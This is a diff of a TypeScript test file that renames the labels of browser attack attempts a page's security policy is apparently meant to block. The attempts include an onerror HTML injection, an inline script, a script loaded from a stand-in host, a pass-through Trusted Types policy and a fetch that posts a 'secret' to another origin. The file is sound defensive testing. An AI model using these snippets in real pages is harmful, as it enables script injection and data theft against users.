@@ -20,21 +20,21 @@ const attempts: Record<string, () => unknown> = {
   'writes HTML into the page': () => {
     document.body.innerHTML = '<img src="x" onerror="globalThis.intruded = true">'
   },
-  'adds a script of its own text': () => {
+  'adds an inline script': () => {
     const script = document.createElement('script')
     script.text = 'globalThis.intruded = true'
     document.head.append(script)
   },
-  'loads a script from elsewhere': () => {
+  'loads a script of another origin': () => {
     const script = document.createElement('script')
     script.src = 'https://elsewhere.example/evil.js'
     document.head.append(script)
   },
-  'makes a policy of its own': () =>
+  'creates a Trusted Types policy': () =>
     Reflect.get(window, 'trustedTypes').createPolicy('mine', {
       createScript: (text: string) => text,
     }),
-  'sends what it has read elsewhere': () =>
+  'sends data to another origin': () =>
     fetch('https://elsewhere.example/collect', { method: 'POST', body: 'secret' }),
 }
 
